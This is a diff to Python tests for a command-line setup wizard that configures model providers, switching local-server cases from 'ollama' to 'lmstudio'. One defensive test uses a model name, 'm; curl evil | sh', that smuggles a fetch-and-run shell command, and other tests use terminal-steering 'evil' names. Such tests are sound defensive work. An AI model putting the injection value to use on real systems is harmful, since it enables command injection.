@@ -64,7 +64,7 @@ def test_what_the_server_said_stands_in_a_line_of_its_own(setup):
 def test_other_means_the_one_server_that_is_to_be_named_or_asks_which(setup):
     done = setup(PROVIDER, "other\n", PROVIDER, CTRL_C)
 
-    assert "Several are called other; type the number: 6 or 7\n" in done.out
+    assert "Several are called other; type the number: 5 or 6\n" in done.out
 
 
 def test_a_model_that_is_not_there_leads_to_the_list_of_models(setup):
@@ -131,14 +131,14 @@ def test_a_model_that_does_not_answer_is_replaced_by_another(setup):
 def test_a_local_server_needs_no_key(setup):
     with vendor(keyless=True) as local:
         done = setup(
-            PROVIDER, "ollama\n", "base_url [http://127.0.0.1:11434/v1]: ", f"{local.url}\n",
+            PROVIDER, "lmstudio\n", "base_url [http://127.0.0.1:1234/v1]: ", f"{local.url}\n",
             MODEL, "chat-small\n", WRITE, "y\n",
         )  # fmt: skip
 
         assert done.code == 0, done.out
         assert tomllib.loads(setup.settings.read_text()) == {
-            "model": "ollama/chat-small",
-            "plugins": {"pluggent-openai": {"servers": {"ollama": {"base_url": local.url}}}},
+            "model": "lmstudio/chat-small",
+            "plugins": {"pluggent-openai": {"servers": {"lmstudio": {"base_url": local.url}}}},
         }
         assert {key for _, key in local.requests} == {""}
         assert setup.run("run", "hi").code == 0
@@ -157,7 +157,7 @@ def test_what_is_known_of_a_local_server_is_written_too(setup):
 
 def test_a_server_of_ones_own_gets_a_name_and_a_key(setup, server):
     done = setup(
-        PROVIDER, "7\n", "NAME/MODEL: ", "my lab\n", "NAME/MODEL: ", "lab\n", "base_url: ", f"{server.url}\n",
+        PROVIDER, "6\n", "NAME/MODEL: ", "my lab\n", "NAME/MODEL: ", "lab\n", "base_url: ", f"{server.url}\n",
         "Enter for none): ", f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n",
     )  # fmt: skip
 
@@ -186,17 +186,17 @@ def test_a_server_of_the_settings_is_set_up_again_by_its_name(setup, server):
 def test_what_a_server_says_cannot_steer_the_terminal(setup):
     with vendor(keyless=True, models=(f"evil{EVIL}", "\u5927" * 30, "x" * 300)) as local:
         done = setup(
-            "/v1]: ", f"{local.url}\n", MODEL, "evil\n", MODEL, "1\n", WRITE, "y\n", arguments=("ollama",)
+            "/v1]: ", f"{local.url}\n", MODEL, "evil\n", MODEL, "1\n", WRITE, "y\n", arguments=("lmstudio",)
         )  # fmt: skip
 
     assert (done.code, STEERING & set(done.out)) == (0, set())
-    assert tomllib.loads(setup.settings.read_text())["model"] == f"ollama/evil{EVIL}"
+    assert tomllib.loads(setup.settings.read_text())["model"] == f"lmstudio/evil{EVIL}"
 
 
 def test_a_very_long_name_of_a_model_does_not_fill_the_screen(setup):
     with vendor(keyless=True, models=("chat", "x" * 1_000_000)) as local:
         local.more = {"display_name": "long " * 100_000}
-        done = setup("/v1]: ", f"{local.url}\n", MODEL, "chat\n", WRITE, "y\n", arguments=("ollama",))
+        done = setup("/v1]: ", f"{local.url}\n", MODEL, "chat\n", WRITE, "y\n", arguments=("lmstudio",))
 
     assert (done.code, len(done.out) < 5_000) == (0, True)
 
@@ -218,10 +218,17 @@ def test_the_command_to_begin_with_is_one_command_whatever_a_model_is_called(set
     name = "m; curl evil | sh"
     with vendor(keyless=True, models=(name,)) as local:
         done = setup(
-            "/v1]: ", f"{local.url}\n", MODEL, "1\n", WRITE, "y\n", arguments=("ollama",), PLUGGENT_MODEL="offline/demo"
+            "/v1]: ",
+            f"{local.url}\n",
+            MODEL,
+            "1\n",
+            WRITE,
+            "y\n",
+            arguments=("lmstudio",),
+            PLUGGENT_MODEL="offline/demo",
         )
 
-    assert (done.code, done.out.partition(READY)[2]) == (0, f"  pluggent chat --model 'ollama/{name}'\n")
+    assert (done.code, done.out.partition(READY)[2]) == (0, f"  pluggent chat --model 'lmstudio/{name}'\n")
 
 
 def test_a_server_cannot_take_the_name_of_another_provider_and_its_key(setup, server):
@@ -230,7 +237,7 @@ def test_a_server_cannot_take_the_name_of_another_provider_and_its_key(setup, se
     kept.write_text("sk-of-anthropic\n")
 
     done = setup(
-        PROVIDER, "7\n", "NAME/MODEL: ", "anthropic\n", "NAME/MODEL: ", "lab\n", "base_url: ", f"{server.url}\n",
+        PROVIDER, "6\n", "NAME/MODEL: ", "anthropic\n", "NAME/MODEL: ", "lab\n", "base_url: ", f"{server.url}\n",
         "Enter for none): ", f"{GOOD}\n", MODEL, "chat-small\n", WRITE, "y\n",
     )  # fmt: skip
 
@@ -241,7 +248,7 @@ def test_a_server_cannot_take_the_name_of_another_provider_and_its_key(setup, se
 def test_what_is_not_a_url_is_asked_for_again(setup, server):
     done = setup(
         "base_url [", "ftp://x\n", "base_url [", f"{server.url}\n", KEY.replace("): ", ""), CTRL_C,
-        arguments=("ollama",),
+        arguments=("lmstudio",),
     )  # fmt: skip
 
     assert "expected http://HOST/PATH or https://HOST/PATH" in done.out
@@ -378,6 +385,14 @@ def test_without_a_terminal_the_lines_to_write_are_printed(setup):
         'api_key = "env:OPENAI_API_KEY"  # the key, read from that variable; this is the default\n'
         f'# or from a file of mode 0600 with nothing else in it: api_key = "file:{setup.key}"\n'
     )
+
+
+def test_a_local_server_is_not_offered_under_the_name_of_an_installed_provider(setup):
+    """pluggent-ollama is installed beside these tests, and blocked: its name is its own."""
+    offered = [one["provider"] for one in json.loads(setup.run("setup", "--json").out)["providers"]]
+
+    assert "lmstudio" in offered
+    assert "ollama" not in offered
 
 
 def test_the_lines_that_are_printed_are_right(setup):
